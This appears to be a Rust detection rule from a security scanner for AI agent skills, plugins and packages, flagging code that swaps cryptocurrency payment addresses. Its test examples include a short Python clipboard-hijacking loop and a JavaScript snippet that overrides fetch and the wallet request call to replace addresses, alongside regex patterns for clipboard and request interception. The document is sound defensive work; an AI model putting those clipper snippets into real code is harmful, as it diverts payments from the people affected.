//! source-address-swap: payment addresses are looked for and replaced, in the clipboard or in what a page sends.

use std::sync::LazyLock;

use regex::Regex;

use super::source_calls::{source_files, weighed};
use crate::{FactSink, Rule, RuleMeta};
use capdex_evidence::subject::Subject;
use capdex_model::fact::{Confidence, Severity};

/// See the file's first line.
pub(super) struct SourceAddressSwap;

static META: LazyLock<RuleMeta> = LazyLock::new(|| toml::from_str(CARD).expect("the card is valid"));

const CARD: &str = r##"
id = "source-address-swap"
version = 1
title = "Payment addresses are replaced"
why = "Code that recognises the addresses of several currencies and writes to the clipboard, or stands between a page and its wallet, changes who is paid."
fix = "Remove it."
cannot_see = "Addresses that are recognised by a library; code that is obfuscated, which another rule reports."
severity = "high"
confidence = "medium"
kinds = ["skill", "mcp_server", "hook", "plugin", "package"]
lifecycle = "stable"
cites = ["CWE-506", "owasp-mcp:MCP04"]
[[examples.fires]]
note = "The clipboard is watched."
[examples.fires.files]
"a.py" = '''
import re, time, pyperclip
while True:
    text = pyperclip.paste()
    if re.match(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", text):
        pyperclip.copy("bc1-of-somebody-else")
    time.sleep(1)
'''
[[examples.fires]]
note = "What a page sends is changed."
[examples.fires.files]
"a.js" = '''
const kinds = { eth: /0x[a-fA-F0-9]{40}/g, btc: /bc1[a-z0-9]{39}|[13][a-km-zA-HJ-NP-Z1-9]{25,34}/g, trx: /T[1-9A-HJ-NP-Za-km-z]{33}/g };
const old = window.fetch;
window.fetch = async (...a) => swap(await old(...a));
const send = window.ethereum.request; window.ethereum.request = (a) => send(swap(a));'''
[[examples.silent]]
note = "One address is checked."
[examples.silent.files]
"a.js" = 'export const isAddress = (text) => /^0x[a-fA-F0-9]{40}$/.test(text); fetch("https://api.test");'
[[examples.silent]]
note = "A button that copies."
[examples.silent.files]
"a.js" = 'button.onclick = () => navigator.clipboard.writeText(command); fetch("https://api.test");'
"##;

impl Rule for SourceAddressSwap {
    fn meta(&self) -> &RuleMeta {
        &META
    }

    fn check(&self, subject: &Subject<'_>, facts: &mut FactSink<'_>) {
        for file in source_files(subject) {
            let Some(document) = subject.evidence.documents.get(file.path) else { continue };
            let text = document.text.as_str();
            let Some(first) = COINS.find(text) else { continue };
            let kinds =
                COINS.find_iter(text).take(50).map(|coin| coin.as_str()).collect::<std::collections::BTreeSet<_>>();
            let clipboard = READS_CLIPBOARD.is_match(text) && WRITES_CLIPBOARD.is_match(text);
            let wallet = kinds.len() >= 3 && STANDS_BETWEEN.is_match(text);
            if clipboard || wallet {
                let (severity, confidence) = weighed(&file, Severity::High, Confidence::Medium);
                let evidence = text.get(first.start()..).unwrap_or_default();
                facts.found_as(severity, confidence, document.place(first.start()), evidence);
            }
        }
    }
}

fn pattern(text: &str) -> Regex {
    Regex::new(text).expect("the pattern is fixed and valid")
}

/// Patterns by which the addresses of currencies are recognised.
static COINS: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"0x\[[a-fA-F0-9-]{6,12}\]\{40\}|bc1\[|\(bc1\||\[13\]\[|T\[1-9A-HJ|T\[A-Za-z1-9|\[LM3\]\[|bitcoincash:\[|4\[0-9AB\]\[|r\[0-9a-zA-Z\]\{24|ltc1\[",
    )
});

static READS_CLIPBOARD: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"pyperclip\.paste|clipboard\.paste|clipboardy\.read|readText\(|GetClipboardData|Get-Clipboard|pbpaste|clipboard_get",
    )
});

static WRITES_CLIPBOARD: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"pyperclip\.copy|clipboard\.copy|clipboardy\.write|writeText\(|SetClipboard|Set-Clipboard|pbcopy|clipboard_append",
    )
});

/// What stands between a page and its wallet or its server.
static STANDS_BETWEEN: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"ethereum(?:\.|\[.)(?:request|send)\S{0,3}\s*=[^=]|XMLHttpRequest\.prototype\.(?:open|send)\s*=[^=]|(?:window|globalThis)\.fetch\s*=[^=]",
    )
});
